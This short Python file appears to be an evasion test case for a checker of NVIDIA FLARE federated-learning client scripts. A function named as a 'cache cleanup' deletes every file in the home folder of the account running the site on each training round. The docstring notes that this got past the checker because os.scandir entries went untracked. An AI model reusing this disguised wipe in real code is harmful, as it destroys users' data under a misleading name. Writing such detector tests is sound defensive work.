"""Session 54 (leftovers54): a "cache cleanup" that removes every file of the home folder of the account
the site runs as, through os.scandir's entries (entry.path). ACCEPTED on main: the entries were not folded
as paths under the folder scanned (os.listdir's were since session 53); file-exfiltration.wipe now."""
import os

import nvflare.client as flare


def clean_cache():
    cache = os.path.expanduser("~")
    with os.scandir(cache) as entries:
        for entry in entries:
            if entry.is_file():
                os.remove(entry.path)


def main():
    flare.init()
    while flare.is_running():
        received = flare.receive()
        clean_cache()
        flare.send(received)


if __name__ == "__main__":
    main()
